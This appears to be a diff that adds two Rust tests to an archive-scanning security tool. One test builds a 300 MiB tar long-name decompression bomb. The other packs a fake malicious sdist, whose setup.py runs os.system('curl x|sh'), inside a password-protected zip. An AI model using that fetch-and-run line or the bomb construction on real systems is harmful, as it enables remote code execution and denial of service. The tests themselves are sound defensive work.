@@ -684,3 +684,43 @@ fn overlapping_zip_bomb_hits_archive_ratio() {
     assert!(kept <= 200 * out.len() as u64 + (1 << 20), "kept {kept}");
     assert!(u.files.len() < 200);
 }
+
+#[test]
+fn long_name_bomb_is_stopped_by_the_stream_guard() {
+    // A GNU long-name entry claiming 300 MiB: the tar reader buffers long names whole, so only
+    // the stream guard stands between it and memory.
+    let mut h = tar::Header::new_gnu();
+    h.set_entry_type(tar::EntryType::GNULongName);
+    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
+    h.set_size(300 << 20);
+    h.set_mode(0o644);
+    h.set_cksum();
+    let mut bomb = gz(h.as_bytes());
+    let mut e = GzEncoder::new(Vec::new(), Compression::best());
+    e.write_all(&vec![b'a'; 1 << 20]).unwrap();
+    let mib = e.finish().unwrap();
+    for _ in 0..300 {
+        bomb.extend_from_slice(&mib);
+    }
+    let t = std::time::Instant::now();
+    let r = open_bytes(&bomb, &Options::default());
+    match r {
+        Ok(u) => assert!(has(&u, AnomalyKind::RatioExceeded), "{:?}", u.anomalies),
+        Err(e) => panic!("expected a ratio anomaly, got {e}"),
+    }
+    assert!(t.elapsed().as_secs() < 20);
+}
+
+#[test]
+fn datadog_style_encrypted_zip_of_an_sdist() {
+    // DataDog's dataset: <date>-<name>-v<ver>.zip, ZipCrypto with `infected`, holding the sdist.
+    use zip::unstable::write::FileOptionsExt;
+    let sdist = tgz(&[file("evil-1.0/setup.py", b"os.system('curl x|sh')")]);
+    let opts = SimpleFileOptions::default()
+        .with_deprecated_encryption(b"infected")
+        .unwrap();
+    let z = zip_bytes(&[("evil-1.0.tar.gz", &sdist)], opts);
+    let u = open(&z);
+    assert_eq!(paths(&u), ["evil-1.0.tar.gz!/evil-1.0/setup.py"]);
+    assert_eq!(kinds(&u), [AnomalyKind::Encrypted]);
+}
